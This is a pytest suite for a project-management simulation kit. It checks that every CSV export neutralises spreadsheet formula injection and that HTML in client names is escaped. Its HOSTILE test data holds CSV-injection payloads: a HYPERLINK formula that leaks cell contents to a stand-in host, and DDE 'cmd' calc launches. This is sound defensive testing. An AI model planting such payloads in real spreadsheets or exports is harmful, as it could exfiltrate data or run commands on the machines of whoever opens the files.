"""No CSV the kit writes can carry a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import re

import pandas as pd
import pytest

from pmo_sim.cli import main
from pmo_sim.files import (
    FORMULA_START,
    frame_csv,
    from_spreadsheet_safe,
    spreadsheet_safe,
    spreadsheet_safe_frame,
)
from pmo_sim.inputs import read_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def _live_cells(path):
    """Cells of a CSV file that a spreadsheet would read as a formula."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [
            cell
            for row in csv.reader(fh)
            for cell in row
            if cell.startswith(FORMULA_START) and not NUMBER.match(cell)
        ]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_quoted_and_comes_back(text):
    safe = spreadsheet_safe(text)
    assert safe == "'" + text
    assert from_spreadsheet_safe(safe) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, "-3", "+4.5", "-1e3", "plain", "R&D", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_frames_keep_numbers_as_numbers():
    frame = pd.DataFrame({"group": ["=1+1", "ops"], "gap": [-0.5, 1.25], "=col": ["x", "-y"]})
    safe = spreadsheet_safe_frame(frame)
    assert list(safe.columns) == ["group", "gap", "'=col"]
    assert list(safe["group"]) == ["'=1+1", "ops"]
    assert list(safe["'=col"]) == ["x", "'-y"]
    assert safe["gap"].dtype == float and list(safe["gap"]) == [-0.5, 1.25]
    # pyarrow's writer quotes text, so a neutralised cell reads "'=1+1" in any reader
    assert frame_csv(frame) == '"group","gap","\'=col"\n"\'=1+1",-0.5,"x"\n"ops",1.25,"\'-y"\n'
    assert list(frame["group"]) == ["=1+1", "ops"]  # the caller's frame is untouched


@pytest.fixture
def hostile_responses(root, tmp_path):
    frame = pd.read_csv(root / "questionnaires/examples/northgate_long.csv", dtype=str).fillna("")
    frame.loc[frame["respondent"] == "R001", "respondent"] = HOSTILE[0]
    frame.loc[frame["group"] == "Executives", "group"] = HOSTILE[1]
    frame.loc[frame.index[:3], "comment"] = HOSTILE[4]
    frame["client"] = HOSTILE[3]
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False)
    return path


def test_assess_out_csvs_carry_no_live_formula(hostile_responses, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["assess", str(hostile_responses), "--out", str(out), "--resamples", "100"]) == 0
    written = sorted(out.glob("*.csv"))
    assert {"groups.csv", "perception_gaps.csv", "question_groups.csv"} <= {p.name for p in written}
    for path in written:
        assert _live_cells(path) == [], path.name
    groups = (out / "groups.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in groups


def test_a_neutralised_export_reads_back_as_it_was(hostile_responses, tmp_path):
    original = read_table(hostile_responses)
    copy = tmp_path / "again.csv"
    copy.write_text(frame_csv(original), encoding="utf-8")
    assert _live_cells(copy) == []
    pd.testing.assert_frame_equal(read_table(copy), original)


def test_simulate_and_sweep_csvs_carry_no_live_formula(root, tmp_path, capsys):
    text = (root / "scenarios/baseline.yaml").read_text(encoding="utf-8")
    text = text.replace("name: Baseline", "name: '=HYPERLINK(\"http://x\")'")
    text = text.replace("  digital_product:\n", "  \"=cmd|' /C calc'!A0\":\n", 1)
    text = text.replace("type: digital_product", "type: \"=cmd|' /C calc'!A0\"")
    text = text.replace("  tester:", "  '@tester':").replace("role: tester", "role: '@tester'")
    scenario = tmp_path / "hostile.yaml"
    scenario.write_text(text, encoding="utf-8")
    out = tmp_path / "sim"
    args = ["simulate", str(scenario), "-n", "2", "--workers", "1", "--out", str(out)]
    assert main(args) == 0, capsys.readouterr().err
    for path in sorted(out.glob("*.csv")):
        assert _live_cells(path) == [], path.name
    assert "'=cmd|' /C calc'!A0" in (out / "projects.csv").read_text(encoding="utf-8")
    sweep = tmp_path / "sweep"
    args = ["sweep", str(scenario), "--grid", "policy.wip_limit=-1,none", "-n", "2"]
    assert main([*args, "--workers", "1", "--out", str(sweep)]) == 2  # -1 is refused
    assert not sweep.exists()
    args[3] = "policy.wip_limit=20,none"
    assert main([*args, "--workers", "1", "--out", str(sweep)]) == 0, capsys.readouterr().err
    assert _live_cells(sweep / "sweep.csv") == []


def test_workshop_export_reads_back_with_the_names_as_typed(tmp_path):
    from pmo_sim.assessment import AnswerStore, load_questionnaire, load_responses

    questionnaire = load_questionnaire()
    with AnswerStore(tmp_path / "w.sqlite", questionnaire) as store:
        name = store.add_respondent(HOSTILE[1], "PMO team")
        store.record_answer(name, next(iter(questionnaire.questions)), 3)
        store.record_comment(name, questionnaire.dimensions[0].id, HOSTILE[4])
        store.export_csv(tmp_path / "w.csv")
    assert _live_cells(tmp_path / "w.csv") == []
    answers = load_responses(tmp_path / "w.csv", questionnaire).answers
    assert set(answers["respondent"]) == {HOSTILE[1]}


def test_batch_summary_and_index_with_hostile_client_names(root, tmp_path):
    import json

    from pmo_sim.assessment import assess_file
    from pmo_sim.reporting.batch import EngagementOutcome
    from pmo_sim.reporting.index import write_index

    data = assess_file(root / "questionnaires/examples/northgate_long.csv", n_boot=100).to_dict()
    outcomes = []
    for slug, client in [("a", HOSTILE[0]), ("b", "Fund 50$% - 20$%"), ("c", "<b>x</b>")]:
        (tmp_path / slug).mkdir()
        (tmp_path / slug / "assessment.json").write_text(json.dumps(data), encoding="utf-8")
        (tmp_path / slug / "assessment.html").write_text("<p>report</p>", encoding="utf-8")
        outcomes.append(
            EngagementOutcome(
                client, "assessment", slug, "done", tmp_path / slug / "assessment.html"
            )
        )
    index, summary = write_index(tmp_path, "=1+1 <script>", outcomes)
    assert _live_cells(summary) == []
    with open(summary, newline="", encoding="utf-8") as fh:
        clients = [row[0] for row in csv.reader(fh)][1:]
    assert clients == ["'" + HOSTILE[0], "Fund 50$% - 20$%", "<b>x</b>"]
    page = index.read_text(encoding="utf-8")
    assert "<b>x</b>" not in page and "&lt;b&gt;x&lt;/b&gt;" in page
    assert "data:image/png;base64," in page  # the chart with the $ client was drawn


def test_every_csv_the_kit_writes_goes_through_the_one_writer(root):
    # A second way to write CSV would be a second place to forget the formula quote.
    import re

    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|pyarrow\.csv\.write_csv|pacsv\.write_csv")
    offenders = [
        f"{path.relative_to(root)}:{n}"
        for path in sorted((root / "pmo_sim").rglob("*.py"))
        if path.name != "files.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line)
    ]
    assert offenders == [], "write CSV with pmo_sim.files.frame_csv / write_csv"
